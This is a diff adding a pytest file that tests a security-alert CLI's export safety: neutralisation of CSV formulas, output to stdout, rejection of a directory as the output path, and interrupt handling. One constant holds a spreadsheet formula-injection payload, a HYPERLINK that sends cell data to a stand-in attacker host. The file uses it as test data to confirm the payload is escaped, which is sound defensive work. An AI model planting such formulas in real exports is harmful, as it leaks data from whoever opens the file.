@@ -1,0 +1,140 @@
+"""Exports that are safe to open and to interrupt (issue 19): formula neutralisation in every CSV the CLI
+writes, `--output -` to stdout, a directory as `--output`, and SIGTERM/Ctrl-C keeping an older export.
+
+Every run is the real CLI in a subprocess against the emulator over loopback HTTP. The emulator's first
+cloud account is renamed in its live state to a spreadsheet formula, so every alert of that account
+carries the name through the real API.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from cortexkit.emulator.server import RunningEmulator
+
+# The emulator derives a tag from the text after the account name's first hyphen, so the name has one.
+EVIL = '=HYPERLINK("http://evil-site.example/"&A1,"open")'
+_SCRUB = ("PRISMA_", "PC_", "CORTEXKIT_")
+
+
+@pytest.fixture
+def evil(make_emulator: Callable[..., RunningEmulator]) -> RunningEmulator:
+    running = make_emulator(alerts=400, accounts=2)
+    state = running.emulator.state
+    with state.lock:  # type: ignore[union-attr]
+        state.accounts[0].name = EVIL  # type: ignore[union-attr]
+    return running
+
+
+def _env(running: RunningEmulator, config: Path) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(_SCRUB)}
+    env.update({**running.client_env(), "CORTEXKIT_CONFIG_DIR": str(config), "NO_COLOR": "1"})
+    return env
+
+
+def _command(*args: str) -> list[str]:
+    return [sys.executable, "-m", "cortexkit.cli.main", *args]
+
+
+def _run(env: dict[str, str], cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        _command(*args), env=env, cwd=cwd, capture_output=True, text=True, timeout=300, check=False
+    )
+
+
+def _cells(text: str) -> list[str]:
+    return [value for row in csv.reader(io.StringIO(text)) for value in row]
+
+
+def test_csv_neutralises_formulas_in_every_command(evil: RunningEmulator, tmp_path: Path) -> None:
+    env = _env(evil, tmp_path)
+    target = tmp_path / "alerts.csv"
+    done = _run(env, tmp_path, "alerts", "export", "-f", "csv", "-o", str(target), "--status", "open")
+    assert done.returncode == 0, done.stderr
+    listed = _run(env, tmp_path, "-o", "csv", "alerts", "list", "--status", "open", "--limit", "400")
+    assert listed.returncode == 0, listed.stderr
+    accounts = _run(env, tmp_path, "-o", "csv", "accounts", "list")
+    assert accounts.returncode == 0, accounts.stderr
+
+    for text in (target.read_text(encoding="utf-8"), listed.stdout, accounts.stdout):
+        cells = _cells(text)
+        assert "'" + EVIL in cells
+        assert EVIL not in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+    # JSON is not read by spreadsheets: the name stays the API's.
+    raw = _run(env, tmp_path, "-o", "json", "accounts", "list")
+    assert EVIL in {row.get("name") for row in json.loads(raw.stdout)}
+
+
+def test_output_dash_writes_to_stdout_not_a_file_named_dash(evil: RunningEmulator, tmp_path: Path) -> None:
+    env = _env(evil, tmp_path)
+    counted = json.loads(_run(env, tmp_path, "alerts", "count", "-o", "json").stdout)["count"]
+    done = _run(env, tmp_path, "alerts", "export", "-f", "jsonl", "--output", "-")
+    assert done.returncode == 0, done.stderr
+    assert len({json.loads(line)["id"] for line in done.stdout.splitlines()}) == counted
+    assert "to standard output" in done.stderr
+
+    report = _run(env, tmp_path, "alerts", "report", "-o", "-")
+    assert report.returncode == 0, report.stderr
+    assert report.stdout.lstrip().lower().startswith("<!doctype html>")
+    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("config")) == []
+
+
+def test_output_naming_a_directory_is_bad_input_naming_the_users_path(
+    evil: RunningEmulator, tmp_path: Path
+) -> None:
+    env = _env(evil, tmp_path)
+    folder = tmp_path / "exports"
+    folder.mkdir()
+    commands = (["alerts", "export", "-f", "csv", "-o", str(folder)], ["alerts", "report", "-o", str(folder)])
+    for args in commands:
+        done = _run(env, tmp_path, *args)
+        assert done.returncode == 2, done.stderr
+        assert str(folder) in done.stderr and ".part" not in done.stderr
+        assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
+        assert list(folder.iterdir()) == []
+
+
+@pytest.mark.parametrize(("signum", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
+def test_an_interrupted_export_keeps_the_older_file_and_leaves_no_partial_one(
+    make_emulator: Callable[..., RunningEmulator], tmp_path: Path, signum: int, code: int
+) -> None:
+    env = _env(make_emulator(alerts=10_000), tmp_path)
+    out = tmp_path / "out"
+    out.mkdir()
+    target = out / "alerts.csv"
+    target.write_text("the older export\n", encoding="utf-8")
+    # Small pages make the export long enough to be caught in the middle.
+    args = ["alerts", "export", "-f", "csv", "-o", str(target), "--page-size", "10", "--no-progress"]
+    process = subprocess.Popen(
+        _command(*args), env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+    )
+    try:
+        deadline = time.monotonic() + 60
+        while not list(out.glob(".alerts.csv.*.part")):
+            assert process.poll() is None, process.communicate()
+            assert time.monotonic() < deadline, "the export never started writing"
+            time.sleep(0.02)
+        time.sleep(0.3)  # some pages in
+        process.send_signal(signum)
+        _stdout, stderr = process.communicate(timeout=60)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.wait()
+    assert process.returncode == code, stderr
+    assert "Traceback" not in stderr
+    assert target.read_text(encoding="utf-8") == "the older export\n"
+    assert sorted(p.name for p in out.iterdir()) == ["alerts.csv"]
